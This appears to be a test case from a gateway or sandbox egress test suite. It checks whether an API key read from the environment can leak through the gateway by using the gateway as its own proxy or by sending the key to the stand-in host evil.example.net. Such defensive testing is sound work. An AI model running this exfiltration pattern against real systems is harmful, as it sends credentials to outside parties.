# /// attack
# guarantee = "network"
# summary = "Asks the gateway as a proxy, by its own address."
# reference = "RFC 9112, 3.2.2"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy only by the gateway" }
# ///

import os

from kit import by_gateway, exchange, has_proxy, head, judge

KEY = f"X-Api-Key: {os.environ['API_KEY']}"
if has_proxy():
    judge(
        exchange(
            "", head("GET http://127.0.0.1:3128/api.example.org/", "Host: 127.0.0.1:3128", "Connection: close", KEY)
        )
    )
judge(by_gateway("evil.example.net", "/", KEY))
